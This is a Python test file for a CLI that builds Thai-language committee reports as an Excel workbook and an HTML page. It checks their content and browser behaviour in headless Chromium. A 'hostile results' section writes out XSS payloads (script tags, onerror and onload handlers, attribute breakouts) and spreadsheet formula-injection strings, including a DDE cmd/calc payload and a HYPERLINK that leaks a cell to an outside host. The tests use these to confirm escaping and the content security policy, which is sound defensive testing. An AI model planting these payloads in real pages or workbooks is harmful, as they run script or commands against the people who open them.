"""The committee report: the workbook, the HTML page's content, and the page
in a real browser (headless Chromium from a file:// URL: every row shown,
sorting by a header, filtering, a screenshot)."""
from __future__ import annotations

import html
import json
import re
import subprocess
import zipfile
from pathlib import Path

import lxml.html
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from formkit.cli import main
from tests.conftest import sample_dirs

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]


def run(*args: str, stdin: str | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), input=stdin)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict[str, object]]]:
    """The samples' parse output plus one unreadable file, reported once."""
    where = tmp_path_factory.mktemp("report")
    broken = where / "ส่งช้า & <เสีย>.docx"          # Thai, and characters HTML must escape
    broken.write_bytes(b"not a zip")
    code, parsed, _ = run("parse", *map(str, sample_dirs()), str(broken))
    assert code == 1
    results = where / "parsed.jsonl"
    results.write_text(parsed, "utf-8")
    code, out, err = run("report", str(results), "-o", str(where / "out"))
    assert code == 1 and "1 not scored" in err
    assert out.split() == [str(where / "out" / "report.xlsx"), str(where / "out" / "report.html")]
    return where / "out", [json.loads(line) for line in parsed.splitlines()]


def _sheet(path: Path, n: int) -> list[tuple[object, ...]]:
    """The rows of the workbook's sheet ``n`` (0: offices, 1: files, 2: works, 3: levels, 4: not scored)."""
    return list(load_workbook(path).worksheets[n].iter_rows(values_only=True))


def test_workbook_has_one_row_per_file_and_per_office(batch: tuple[Path, list[dict[str, object]]]) -> None:
    out, results = batch
    book = load_workbook(out / "report.xlsx")
    assert book.sheetnames == ["สำนักงาน", "ผลรายไฟล์", "ผลงาน", "การกระจายระดับ", "ประเมินไม่ได้"]
    rows = _sheet(out / "report.xlsx", 1)
    assert rows[0][:8] == ("ไฟล์", "สำนักงาน", "แบบ", "ประเมินตนเอง", "ระดับที่ได้ (ตามเกณฑ์/คณะกรรมการ)",
                           "ข้อเสนออัตโนมัติ", "ที่มาของระดับ", "สถานะ")
    assert [r[0] for r in rows[1:]] == [r["file"] for r in results]
    three = next(r for r in rows if str(r[0]).endswith("esao-3-1/three-works.docx"))
    assert three[3:8] == (3, 2, None, "ผลตามเกณฑ์", "ต่างจากที่ประเมินตนเอง")
    assert "ผลงานที่ 2 «ระบบสารบรรณอิเล็กทรอนิกส์ลดกระดาษ (Smart Office)»: มีตัวอย่างภาพกิจกรรม 2 จาก 4 รายการที่ต้องมี" in three[9]
    failed = _sheet(out / "report.xlsx", 4)
    assert len(failed) == 2 and failed[1][0].endswith("<เสีย>.docx") and "[not-docx]" in failed[1][1]
    offices = _sheet(out / "report.xlsx", 0)
    assert len(offices) == 1 + len(results)   # the samples name two offices, each once; the rest are files
    levels = _sheet(out / "report.xlsx", 3)
    assert levels[0][:4] == ("ระดับ", "esao-1-2 ระดับที่ได้ (ตามเกณฑ์/คณะกรรมการ)", "esao-1-2 ข้อเสนออัตโนมัติ",
                             "esao-1-2 ประเมินตนเอง")
    scored_31 = sum(1 for r in results if r["form"] == "esao-3-1" and not r.get("error"))
    assert sum(r[4] for r in levels[1:]) == scored_31 and load_workbook(out / "report.xlsx").worksheets[3]._charts


def test_page_is_self_contained_and_lists_every_file(batch: tuple[Path, list[dict[str, object]]]) -> None:
    out, results = batch
    page = (out / "report.html").read_text("utf-8")
    tree = lxml.html.fromstring(page)
    assert '<meta charset="utf-8">' in page and tree.get("lang") == "th"
    assert 'font-family: "TH Sarabun New", "TH SarabunPSK", "Laksaman", sans-serif' in page
    assert not re.search(r"<link|\bsrc\s*=|@import|url\(", page), "the page must need nothing else"
    links = tree.xpath("//a/@href")
    assert links and all(not re.match(r"[a-z][a-z0-9+.-]*:|/", h, re.I) for h in links)   # relative, no scheme
    for result in results:
        assert html.escape(str(result["file"])) in page
    assert "ส่งช้า &amp; &lt;เสีย&gt;.docx" in page and "<เสีย>" not in page
    auto = sum(1 for r in results if r["form"] == "esao-1-2" and not r.get("error"))
    caption = tree.xpath('string(//figure[@data-form="esao-1-2"]/figcaption)')
    assert tree.xpath("count(//figure[@class='chart'])") == 2
    assert caption == f"esao-1-2 · ไฟล์ {auto} · ข้อเสนออัตโนมัติ (ไม่นับเป็นผลการประเมิน) {auto}"
    assert "ประเมินตามเกณฑ์ 0 ·" in tree.xpath('string(//p[@class="summary"][@data-form="esao-1-2"])')
    assert re.search(r'<table id="failed">.*\[not-docx\]', page, re.DOTALL)


def test_report_takes_score_output_and_word_files(tmp_path: Path) -> None:
    code, scored, _ = run("score", str(ROOT / "samples" / "esao-1-2"), "--format", "jsonl")
    assert code == 0
    (tmp_path / "scores.jsonl").write_text(scored, "utf-8")
    assert run("report", str(tmp_path / "scores.jsonl"), "-o", str(tmp_path / "a"))[0] == 0
    assert run("report", str(ROOT / "samples" / "esao-1-2"), "-o", str(tmp_path / "b"))[0] == 0
    rows = [_sheet(tmp_path / d / "report.xlsx", 1) for d in "ab"]
    assert rows[0] == rows[1] and len(rows[0]) == 16
    multiple = next(r for r in rows[0] if str(r[0]).endswith("multiple-levels.docx"))
    assert "[multiple-levels-ticked]" in multiple[8] and multiple[7] == "รอคณะกรรมการพิจารณา"


# -- in the browser -----------------------------------------------------------

def _chromium(chromium: str, profile: Path, *args: str) -> subprocess.Popen[bytes]:
    """One headless run with its own new profile (runs in parallel)."""
    return subprocess.Popen([chromium, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", *args],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def _rows(dom: bytes, form: str = "esao-3-1") -> list[tuple[str, str, bool]]:
    """(office, the scored level of ``form``, shown) per table row, in the order the browser left them."""
    tree = lxml.html.fromstring(dom)
    return [(tr.xpath('string(th[@data-key="office"]/@data-sort)'), tr.xpath(f'string(td[@data-key="{form}"]/@data-sort)'),
             tr.get("hidden") is None) for tr in tree.xpath('//table[@id="results"]/tbody/tr')]


def test_page_in_headless_chromium(chromium: str, batch: tuple[Path, list[dict[str, object]]], tmp_path: Path) -> None:
    out, results = batch
    url = (out / "report.html").as_uri()
    shot = tmp_path / "report.png"
    jobs = {
        "plain": _chromium(chromium, tmp_path / "plain", "--dump-dom", url),
        "up": _chromium(chromium, tmp_path / "up", "--dump-dom", url + "?sort=esao-3-1"),
        "down": _chromium(chromium, tmp_path / "down", "--dump-dom", url + "?sort=-esao-3-1"),
        "filtered": _chromium(chromium, tmp_path / "filtered", "--dump-dom", url + "?q=three-works"),
        "shot": _chromium(chromium, tmp_path / "shot", "--hide-scrollbars", "--window-size=1400,1000", f"--screenshot={shot}", url),
    }
    dom = {name: job.communicate(timeout=90)[0] for name, job in jobs.items()}
    assert all(job.returncode == 0 for job in jobs.values())
    assert b'data-ready="true"' in dom["plain"], "the page's script did not run"

    plain = _rows(dom["plain"])
    assert all(shown for _, _, shown in plain) and len(plain) == len(results)   # every office shown
    assert f"{len(results)} / {len(results)}".encode() in dom["plain"]

    up = _rows(dom["up"])
    levels = [level for _, level, _ in up]
    scored = [int(v) for v in levels if v]
    assert len(scored) == sum(1 for r in results if r["form"] == "esao-3-1" and not r.get("error"))
    assert scored == sorted(scored) and levels[len(scored):] == [""] * (len(levels) - len(scored))  # blanks last
    assert re.search(rb'data-key="esao-3-1"[^>]*aria-sort="ascending"', dom["up"])
    down = [int(v) for _, v, _ in _rows(dom["down"]) if v]
    assert down == sorted(scored, reverse=True) and down[0] == 5
    assert [f for f, _, _ in up] != [f for f, _, _ in plain]                       # the rows really moved

    filtered = [f for f, _, shown in _rows(dom["filtered"]) if shown]
    assert filtered == ["three-works.docx"]

    png = shot.read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 20_000
    assert int.from_bytes(png[16:20], "big") == 1400


# -- hostile results ----------------------------------------------------------------------

RUN = "document.body.appendChild(document.createElement('pwn'+'ed'))"  # leaves <pwned> in the DOM if it runs
SCRIPT = f"<script>{RUN}</script>"
HANDLER = f'<img src=x onerror="{RUN}">'
BREAKOUT = f'" autofocus onfocus="{RUN}" x="'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
GOOD = {"file": "in/a.docx", "form": "esao-3-1", "office": "สพป. ก", "self_assessed": 2, "level": 2,
        "basis": "rubric", "reasons": ["2 of 2 work(s) count"], "agrees": True}
HOSTILE = [
    {**GOOD, "file": f"in/{HANDLER}.docx", "office": f"</title>{SCRIPT}", "form": f'</svg><svg onload="{RUN}">',
     "reasons": [SCRIPT, f"missing evidence: {BREAKOUT}", f"parse warning: ' onmouseover='{RUN}"]},
    {**GOOD, "file": f"javascript:{RUN}", "office": FORMULA, "form": "=cmd|' /C calc'!A0", "self_assessed": 3,
     "agrees": False, "reasons": ["+SUM(A1)", "@cmd", "-2+3", "#N/A"]},
    {**GOOD, "file": "in/{{rows}}.docx", "office": "{{title}}"},
    {**GOOD, "file": "in/level.docx", "level": SCRIPT},
    {**GOOD, "file": "in/agrees.docx", "agrees": HANDLER},
    {**GOOD, "file": "in/office.docx", "office": {}},
    {**GOOD, "file": "in/form.docx", "form": []},
]
TITLE = f"</title>{SCRIPT}{BREAKOUT}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report of score results with markup, script and formulas in every
    text field, and wrong types in the typed ones."""
    where = tmp_path_factory.mktemp("hostile")
    scores = where / "scores.jsonl"
    scores.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in HOSTILE), "utf-8")
    code, _, err = run("report", str(scores), "-o", str(where / "out"), "--title", TITLE)
    assert code == 1 and "4 not scored" in err and "Traceback" not in err
    return where / "out"


def test_hostile_text_is_escaped_everywhere(hostile: Path) -> None:
    """Read as HTML: the page's own script is the only one, no element has an
    event handler, the only SVGs are the charts, and every hostile value
    is text, exactly as given (titles, cells, file names, charts, choices)."""
    page = (hostile / "report.html").read_text("utf-8")
    tree = lxml.html.fromstring(page)
    assert len(tree.xpath("//script")) == 1 and "pwn" not in tree.xpath("string(//script)")
    assert not [(el.tag, name) for el in tree.iter() if isinstance(el.tag, str) for name in el.attrib
                if name.lower().startswith("on")]
    assert len(tree.xpath("//*[local-name()='svg']")) == len(tree.xpath('//figure[@class="chart"]')) == 3  # 3 forms
    assert tree.xpath("string(//title)") == TITLE and tree.xpath("string(//h1)") == TITLE
    assert not tree.xpath("//a"), "no file of these exists, so nothing links"
    rows = tree.xpath('//table[@id="results"]/tbody/tr')
    first, second = rows[0], rows[1]
    assert first.xpath('string(th[@data-key="office"]/span)') == HOSTILE[0]["office"]
    assert first.xpath('string(.//div[@class="entry final"]/span[@class="file"]/@title)') == HOSTILE[0]["file"]
    assert first.xpath('td[@data-sort="2"]/@data-form') == [HOSTILE[0]["form"]]
    assert first.get("data-forms") == HOSTILE[0]["form"]
    assert [li.text for li in first.xpath('.//ul[@class="reasons"]/li')] == [SCRIPT]
    assert [li.text for li in first.xpath('.//section[@class="detail"]/ul[not(@class)]/li')] == [BREAKOUT]
    assert second.xpath('string(th[@data-key="office"]/span)') == FORMULA
    assert rows[2].xpath('string(th[@data-key="office"]/span)') == "{{title}}"
    assert HOSTILE[0]["form"] in tree.xpath('//fieldset[@id="form-filter"]//input/@value')
    assert tree.xpath('string(//figure[@data-form="%s"]/@data-form)' % "=cmd|' /C calc'!A0") == "=cmd|' /C calc'!A0"
    failed = [tr.xpath("string(td[1])") for tr in tree.xpath('//table[@id="failed"]/tbody/tr')]
    assert failed == ["in/level.docx", "in/agrees.docx", "in/office.docx", "in/form.docx"]
    assert [tr.xpath('string(th[@data-key="office"]/span)') for tr in rows[3:]] == [
        "level.docx", "agrees.docx", "office.docx", "form.docx"]          # no office: the file names the row
    errors = tree.xpath('//table[@id="failed"]//td[@class="error"]/text()')
    assert "field 'level': expected a level 1..5 or null" in errors[0] and SCRIPT[:30] in errors[0]
    assert "field 'office': expected text or null, got an object" in errors[2]


def test_the_page_allows_only_its_own_script(hostile: Path) -> None:
    """Content-Security-Policy: nothing fetched, and only the page's script,
    by its SHA-256, may run."""
    import base64
    import hashlib

    tree = lxml.html.fromstring((hostile / "report.html").read_bytes())
    policy = tree.xpath('string(//meta[@http-equiv="Content-Security-Policy"]/@content)')
    digest = base64.b64encode(hashlib.sha256(tree.xpath("string(//script)").encode("utf-8")).digest()).decode()
    assert policy.startswith("default-src 'none';") and f"script-src 'sha256-{digest}';" in policy
    assert "unsafe-inline'; script" in policy and policy.count("unsafe-inline") == 1  # for the <style> only


def test_workbook_cells_are_text_never_formulas(hostile: Path) -> None:
    """Every text cell is a string cell holding the value as given: a file
    name or office starting with = is no formula, #N/A no error value."""
    book = load_workbook(hostile / "report.xlsx")
    texts = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and {c.data_type for c in texts} == {"s"}
    files = _sheet(hostile / "report.xlsx", 1)
    assert files[2][:3] == (HOSTILE[1]["file"], FORMULA, "=cmd|' /C calc'!A0")
    assert files[2][10] == "+SUM(A1)\n@cmd\n-2+3\n#N/A" and files[2][3:5] == (3, 2)
    assert _sheet(hostile / "report.xlsx", 0)[2][0] == FORMULA
    assert "=cmd|' /C calc'!A0 ระดับที่ได้ (ตามเกณฑ์/คณะกรรมการ)" in _sheet(hostile / "report.xlsx", 3)[0]
    with zipfile.ZipFile(hostile / "report.xlsx") as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 5 and not any(re.search(rb"<f[ >]", xml) for xml in sheets)


def test_hostile_page_in_headless_chromium(chromium: str, hostile: Path, tmp_path: Path) -> None:
    """No hostile value runs (the DOM has no <pwned>), the page's script
    still works with a hostile ?sort= (the filter applies, rows stay put) and
    sorts by a real column next to a hostile ?form=. Two controls show that
    the check could fail: the same payloads in a plain page do run, and the
    policy alone stops payloads inserted into the report unescaped."""
    url = (hostile / "report.html").as_uri()
    control = tmp_path / "control.html"
    control.write_text(f"<!DOCTYPE html><html><body>{HANDLER}{SCRIPT}</body></html>", "utf-8")
    bypass = tmp_path / "bypass.html"   # the report with the payloads pasted in, escaping bypassed
    page = (hostile / "report.html").read_text("utf-8")
    bypass.write_text(page.replace("<h1>", f"{SCRIPT}{HANDLER}<h1>", 1), "utf-8")
    jobs = {
        "plain": _chromium(chromium, tmp_path / "plain", "--dump-dom", url),
        "bad-sort": _chromium(chromium, tmp_path / "bad-sort", "--dump-dom", url + '?sort=x%22%5D&q=docx'),
        "bad-form": _chromium(chromium, tmp_path / "bad-form", "--dump-dom", url + "?sort=-esao-3-1&form=%22%5D%3Cb%3E"),
        "control": _chromium(chromium, tmp_path / "control", "--dump-dom", control.as_uri()),
        "bypass": _chromium(chromium, tmp_path / "bypass", "--dump-dom", bypass.as_uri()),
    }
    dom = {name: job.communicate(timeout=90)[0] for name, job in jobs.items()}
    assert all(job.returncode == 0 for job in jobs.values())
    assert dom["control"].count(b"<pwned>") == 2, "the payloads must run in a plain page"
    for name in ("plain", "bad-sort", "bad-form", "bypass"):
        assert b"<pwned>" not in dom[name], name
        assert b'data-ready="true"' in dom[name], f"{name}: the page's script did not run to its end"

    plain = _rows(dom["plain"])
    offices = [HOSTILE[0]["office"], FORMULA, "{{title}}", "level.docx", "agrees.docx", "office.docx", "form.docx"]
    assert [o for o, _, shown in plain if shown] == offices
    bad_sort = _rows(dom["bad-sort"])
    assert [o for o, _, _ in bad_sort] == offices                                        # not sorted
    assert [o for o, _, shown in bad_sort if shown] == [o for o, r in zip(offices, HOSTILE) if "docx" in r["file"]]
    assert not re.search(rb"<th[^>]*aria-sort=", dom["bad-sort"])
    bad_form = _rows(dom["bad-form"])
    assert all(shown for _, _, shown in bad_form)                                        # the form was ignored
    assert [level for _, level, _ in bad_form] == ["2"] + [""] * 6 and bad_form[0][0] == "{{title}}"
    assert re.search(rb'data-key="esao-3-1"[^>]*aria-sort="descending"', dom["bad-form"])


def test_characters_xml_cannot_hold_are_left_out_of_the_workbook(tmp_path: Path) -> None:
    """U+FFFF, U+FFFE and C0 controls in an office or file name (JSON can
    carry them) are dropped from report.xlsx, which XML could not hold."""
    scores = tmp_path / "scores.jsonl"
    odd = {**GOOD, "file": "in/a\u0007b.docx", "office": "สพป.\uffff ก\ufffe\u000b"}
    scores.write_text(json.dumps(odd) + "\n", "utf-8")
    code, _, err = run("report", str(scores), "-o", str(tmp_path / "out"))
    assert code == 0 and "Traceback" not in err, err
    row = _sheet(tmp_path / "out" / "report.xlsx", 1)[1]
    assert row[:2] == ("in/ab.docx", "สพป. ก")
